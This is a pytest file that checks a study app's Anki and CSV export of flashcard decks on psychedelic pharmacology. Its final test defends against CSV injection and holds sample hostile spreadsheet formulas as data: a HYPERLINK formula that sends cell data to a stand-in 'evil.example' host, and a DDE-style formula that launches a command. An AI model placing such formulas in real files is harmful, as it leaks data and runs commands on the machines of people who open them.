"""Anki and CSV export, checked by importing the packages into a real Anki collection."""

from __future__ import annotations

import csv
import json
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from anki.collection import Collection
from anki.decks import DeckId
from anki.import_export_pb2 import ImportAnkiPackageOptions, ImportAnkiPackageRequest
from anki.notes import Note

from studyapp.cli import main
from studyapp.services.export import CSV_COLUMNS, ExportError, export_anki, export_csv, note_guid
from studyapp.services.library import Library

T1 = 1_772_000_000.0  # package timestamps: Anki updates a note only from a newer one
T2 = T1 + 3600

BASIC_MODEL = "StudyApp Basic (optional reversed card)"
SAMPLE = "StudyApp::Mechanisms::Sample mechanisms"
TERMS = "StudyApp::Terms::Sample terms"


@pytest.fixture
def anki(tmp_path: Path) -> Iterator[Collection]:
    """A fresh, empty Anki collection in the test's folder."""
    folder = tmp_path / "anki"
    folder.mkdir()
    col = Collection(str(folder / "collection.anki2"))
    yield col
    col.close()


def import_package(col: Collection, package: Path, *, with_scheduling: bool = False) -> Any:
    """Import as Anki's File > Import does; ``with_scheduling`` is its "Import any learning
    progress" box. Returns the import log."""
    request = ImportAnkiPackageRequest(
        package_path=str(package),
        options=ImportAnkiPackageOptions(with_scheduling=with_scheduling),
    )
    return col.import_anki_package(request).log


def notes_by_guid(col: Collection) -> dict[str, Note]:
    return {note.guid: note for note in map(col.get_note, col.find_notes(""))}


def note(col: Collection, note_id: str) -> Note:
    return notes_by_guid(col)[note_guid(note_id)]


@pytest.fixture
def synced(library: Library, deck_dir: Path) -> Library:
    plan = library.sync([deck_dir])
    assert plan.ok, plan.problems
    return library


def _note_type_name(note: Note) -> str:
    """The name of an imported Anki note's note type (Anki types ``note_type()`` as optional)."""
    note_type = note.note_type()
    assert note_type is not None
    return str(note_type["name"])


def test_package_imports_into_anki_with_one_note_per_card_entry(
    synced: Library, anki: Collection, tmp_path: Path
) -> None:
    out = tmp_path / "decks.apkg"
    result = export_anki(synced.engine, out, timestamp=T1)
    assert (result.decks, result.notes, result.cards) == (2, 5, 8)
    import_package(anki, out)

    assert anki.note_count() == 5 and anki.card_count() == 8
    assert set(notes_by_guid(anki)) == {
        note_guid(n) for n in ("s-5ht2a", "s-bdnf", "s-mapp1", "s-nmda", "s-pat")
    }
    assert {anki.decks.name(DeckId(d.id)) for d in anki.decks.all_names_and_ids()} >= {
        SAMPLE,
        TERMS,
    }

    basic = note(anki, "s-5ht2a")
    assert _note_type_name(basic) == BASIC_MODEL
    assert basic["Add Reverse"] == ""
    assert [c.ord for c in basic.cards()] == [0]
    assert basic["Front"] == "Which receptor do classic psychedelics mainly act on?"
    assert basic["Back"] == "The serotonin 5-HT<sub>2A</sub> receptor (agonism)."
    assert basic["Extra"] == "" and basic["Correction"] == ""
    assert basic["Source"].startswith("Source: Zhou 2024")
    assert sorted(basic.tags) == ["mechanisms", "sample-mechanisms", "serotonin"]
    assert [anki.decks.name(c.did) for c in basic.cards()] == [SAMPLE]

    for reversed_id, deck in (("s-bdnf", SAMPLE), ("s-pat", TERMS)):
        reversed_note = note(anki, reversed_id)
        assert _note_type_name(reversed_note) == BASIC_MODEL
        assert reversed_note["Add Reverse"] == "y"
        cards = reversed_note.cards()
        assert sorted(c.ord for c in cards) == [0, 1]
        assert {anki.decks.name(c.did) for c in cards} == {deck}
    pat = note(anki, "s-pat")
    assert sorted(pat.tags) == ["sample-terms", "terms"]
    by_ord = {c.ord: c for c in pat.cards()}
    assert "PAT" in by_ord[0].question() and "PAT" not in by_ord[1].question()
    assert "Psychedelic-assisted therapy" in by_ord[1].question()


def test_cloze_keeps_its_numbering_and_evidence_citations(
    synced: Library, anki: Collection, tmp_path: Path
) -> None:
    out = tmp_path / "decks.apkg"
    export_anki(synced.engine, out, ["sample-mechanisms"], timestamp=T1)
    import_package(anki, out)
    cloze = note(anki, "s-mapp1")
    assert _note_type_name(cloze) == "StudyApp Cloze"
    assert cloze["Text"] == (
        "In MAPP1, {{c1::67%}} on MDMA versus {{c2::32%}} on placebo no longer met PTSD criteria."
    )
    lines = cloze["Source"].split("<br>")
    assert lines[0].startswith("Source: Zhou 2024")
    assert lines[1].startswith("Study: Mitchell 2021") and lines[1].endswith("as of 2025")
    # Anki's card ord n-1 is deletion cN: the c1 card hides 67%, the c2 card hides 32%
    by_ord = {c.ord: c for c in cloze.cards()}
    assert sorted(by_ord) == [0, 1]
    assert "67%" not in by_ord[0].question() and "32%" in by_ord[0].question()
    assert "32%" not in by_ord[1].question() and "67%" in by_ord[1].question()


def test_extra_correction_and_retired_notes(
    library: Library, deck_dir: Path, anki: Collection, tmp_path: Path
) -> None:
    deck = deck_dir / "sample.yaml"
    deck.write_text(
        deck.read_text()
        .replace(
            "    tags: [serotonin]\n",
            "    tags: [serotonin]\n    extra: Psilocin is the <b>active</b> agonist.\n"
            "    correction: The seed document says 5-HT1A.\n",
        )
        .replace(
            "    back: The NMDA glutamate receptor.\n",
            "    back: The NMDA glutamate receptor.\n    retired: Superseded.\n",
        )
    )
    assert library.sync([deck_dir]).ok
    out = tmp_path / "decks.apkg"
    result = export_anki(library.engine, out, timestamp=T1)
    assert (result.notes, result.retired) == (5, 1)
    import_package(anki, out, with_scheduling=True)
    retired = note(anki, "s-nmda")  # exported, suspended, tagged, with the reason on it
    assert "studyapp::retired" in retired.tags
    assert [c.queue for c in retired.cards()] == [-1]
    assert retired["Front"].startswith('<div class="retired">Retired from the course: Superseded.')
    basic = note(anki, "s-5ht2a")
    assert basic["Extra"] == "Psilocin is the <b>active</b> agonist."
    assert basic["Correction"] == "The seed document says 5-HT1A."
    answer = basic.cards()[0].answer()
    assert "active" in answer and "The seed document says 5-HT1A." in answer


def test_exporting_an_edited_deck_again_updates_the_notes_in_anki(
    synced: Library, deck_dir: Path, anki: Collection, tmp_path: Path
) -> None:
    first = tmp_path / "first.apkg"
    export_anki(synced.engine, first, timestamp=T1)
    import_package(anki, first)
    old_ids = {guid: n.id for guid, n in notes_by_guid(anki).items()}
    old_decks = sorted(d.name for d in anki.decks.all_names_and_ids())
    old_models = sorted(m.name for m in anki.models.all_names_and_ids())

    deck = deck_dir / "sample.yaml"
    deck.write_text(
        deck.read_text()
        .replace("mainly act on?", "act on, mainly?")
        .replace("{{c2::32%}} on placebo", "{{c2::32%}} on placebo (18 weeks)")
    )
    assert synced.sync([deck_dir]).updated == ["s-5ht2a", "s-mapp1"]
    second = tmp_path / "second.apkg"
    export_anki(synced.engine, second, timestamp=T2)
    import_package(anki, second)

    assert anki.note_count() == 5 and anki.card_count() == 8
    assert {guid: n.id for guid, n in notes_by_guid(anki).items()} == old_ids
    assert (
        note(anki, "s-5ht2a")["Front"] == "Which receptor do classic psychedelics act on, mainly?"
    )
    assert "(18 weeks)" in note(anki, "s-mapp1")["Text"]
    assert sorted(d.name for d in anki.decks.all_names_and_ids()) == old_decks
    assert sorted(m.name for m in anki.models.all_names_and_ids()) == old_models


def test_turning_a_basic_card_into_a_reversed_one_updates_the_note_in_anki(
    synced: Library, deck_dir: Path, anki: Collection, tmp_path: Path
) -> None:
    first = tmp_path / "first.apkg"
    export_anki(synced.engine, first, timestamp=T1)
    import_package(anki, first)
    nmda = note(anki, "s-nmda")
    assert [c.ord for c in nmda.cards()] == [0] and nmda["Add Reverse"] == ""
    old_ids = {guid: n.id for guid, n in notes_by_guid(anki).items()}
    old_models = sorted(m.name for m in anki.models.all_names_and_ids())
    forward_card = nmda.cards()[0].id

    deck = deck_dir / "sample.yaml"
    deck.write_text(
        deck.read_text().replace("  - id: s-nmda\n", "  - id: s-nmda\n    type: reversed\n")
    )
    assert synced.sync([deck_dir]).updated == ["s-nmda"]
    second = tmp_path / "second.apkg"
    result = export_anki(synced.engine, second, timestamp=T2)
    assert (result.notes, result.cards) == (5, 9)
    import_package(anki, second)

    # the same note, updated in place (not skipped as a note-type conflict), now with 2 cards
    assert anki.note_count() == 5 and anki.card_count() == 9
    assert {guid: n.id for guid, n in notes_by_guid(anki).items()} == old_ids
    nmda = note(anki, "s-nmda")
    assert nmda.guid == note_guid("s-nmda")
    assert nmda["Add Reverse"] == "y"
    by_ord = {c.ord: c for c in nmda.cards()}
    assert sorted(by_ord) == [0, 1]
    assert by_ord[0].id == forward_card  # the forward card, and its history, are kept
    assert {anki.decks.name(c.did) for c in by_ord.values()} == {SAMPLE}
    assert "NMDA glutamate receptor" in by_ord[1].question()
    assert "ketamine" not in by_ord[1].question()
    # a basic note still makes exactly one card
    basic = note(anki, "s-5ht2a")
    assert basic["Add Reverse"] == "" and [c.ord for c in basic.cards()] == [0]
    assert sorted(m.name for m in anki.models.all_names_and_ids()) == old_models


def test_package_ids_do_not_depend_on_the_export(synced: Library, tmp_path: Path) -> None:
    def ids(package: Path) -> tuple[object, ...]:
        with zipfile.ZipFile(package) as z:
            db = tmp_path / f"{package.stem}.anki2"
            db.write_bytes(z.read("collection.anki2"))
        conn = sqlite3.connect(db)
        try:
            notes = conn.execute("SELECT guid, mid FROM notes ORDER BY guid").fetchall()
            col = conn.execute("SELECT models, decks FROM col").fetchone()
        finally:
            conn.close()
        models, decks = json.loads(col[0]), json.loads(col[1])
        return notes, sorted(models), sorted((k, v["name"]) for k, v in decks.items())

    export_anki(synced.engine, tmp_path / "a.apkg", timestamp=T1)
    export_anki(synced.engine, tmp_path / "b.apkg", timestamp=T2)
    assert ids(tmp_path / "a.apkg") == ids(tmp_path / "b.apkg")


def test_csv_has_one_row_per_note(synced: Library, tmp_path: Path) -> None:
    out = tmp_path / "decks.csv"
    result = export_csv(synced.engine, out)
    assert result.notes == 5
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r["id"] for r in rows] == ["s-5ht2a", "s-bdnf", "s-mapp1", "s-nmda", "s-pat"]
    first = rows[0]
    assert first["deck"] == "sample-mechanisms" and first["family"] == "mechanisms"
    assert first["type"] == "basic" and first["tags"] == "serotonin"
    assert first["back"] == "The serotonin 5-HT2A receptor (agonism)."
    cloze = rows[2]
    assert cloze["type"] == "cloze" and cloze["front"] == "" and "{{c1::67%}}" in cloze["text"]
    assert (cloze["source"], cloze["cite"], cloze["as_of"]) == ("zhou2024", "mitchell2021", "2025")
    assert rows[4]["deck"] == "sample-terms" and rows[4]["as_of"] == ""


def test_unknown_or_missing_decks_are_clear_errors(synced: Library, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="unknown deck id.*nope"):
        export_csv(synced.engine, tmp_path / "x.csv", ["sample-terms", "nope"])
    assert not (tmp_path / "x.csv").exists()
    with Library(tmp_path / "empty") as empty, pytest.raises(ExportError, match="sync"):
        export_anki(empty.engine, tmp_path / "x.apkg")


def test_cli_exports_and_exits_one_on_an_unknown_deck(
    deck_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = ["--data-dir", str(tmp_path / "cli-store")]
    assert main([*data, "sync", str(deck_dir)]) == 0
    out = tmp_path / "terms.apkg"
    assert main([*data, "export", "--anki", str(out), "sample-terms"]) == 0
    assert "1 deck(s), 1 note(s), 2 card(s)" in capsys.readouterr().out
    assert zipfile.ZipFile(out).namelist() == ["collection.anki2", "media"]

    assert main([*data, "export", "--csv", str(tmp_path / "x.csv"), "no-such-deck"]) == 1
    captured = capsys.readouterr()
    assert "unknown deck id(s): no-such-deck" in captured.err
    assert "Traceback" not in captured.err and not (tmp_path / "x.csv").exists()
    assert main([*data, "export", "--csv", str(tmp_path / "missing" / "x.csv")]) == 2
    assert "cannot write" in capsys.readouterr().err


@pytest.mark.parametrize("title", ["A :: B", "A:::B", "A::::B", "A ::: :: B"])
def test_colons_in_a_deck_title_never_nest_it_in_anki(
    library: Library, deck_dir: Path, anki: Collection, tmp_path: Path, title: str
) -> None:
    # "::" was replaced by ":" once, so ":::" and "::::" still held "::" and Anki made the
    # rest of the title a deck inside the deck.
    deck = deck_dir / "terms.yaml"
    deck.write_text(deck.read_text().replace("title: Sample terms", f"title: '{title}'"))
    assert library.sync([deck_dir]).ok
    import_package(anki, export_anki(library.engine, tmp_path / "t.apkg").path)
    names = {d.name for d in anki.decks.all_names_and_ids()}
    terms = [n for n in names if n.startswith("StudyApp::Terms")]
    assert len(terms) == 2 and "StudyApp::Terms" in terms, names  # the family and the deck
    assert max(terms, key=len).count("::") == 2


def test_csv_cells_that_start_like_a_formula_are_not_run_by_a_spreadsheet(
    library: Library, tmp_path: Path
) -> None:
    # CSV injection: a spreadsheet opening the export ran a text starting with =, +, -, @
    # (or tab, CR) as a formula ('=HYPERLINK("http://...")', '-2+3' shown as 1). OWASP's
    # advice: a single quote before it, which the spreadsheet shows as text. (A CR cannot
    # reach a card: the validator refuses it.)
    texts = {
        "f-equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "f-plus": "+1 for integration",
        "f-minus": "-2+3",
        "f-at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "f-tab": "\tindented",
        "f-plain": "5-HT2A = serotonin 2A receptor",
    }
    folder = tmp_path / "course"
    folder.mkdir()
    cards = "".join(
        f"  - id: {card_id}\n    front: {json.dumps(text)}\n    back: A\n    source: zhou2024\n"
        for card_id, text in texts.items()
    )
    header = "format_version: 1\ndeck: {id: formulas, title: Formulas, family: terms}\ncards:\n"
    (folder / "deck.yaml").write_text(header + cards, encoding="utf-8")
    plan = library.sync([folder])
    assert plan.ok, plan.problems
    out = tmp_path / "decks.csv"
    export_csv(library.engine, out)
    with out.open(encoding="utf-8", newline="") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    fronts = {card_id: rows[card_id]["front"] for card_id in texts}
    assert fronts == {
        card_id: text if card_id == "f-plain" else "'" + text for card_id, text in texts.items()
    }
    assert {row["back"] for row in rows.values()} == {"A"}
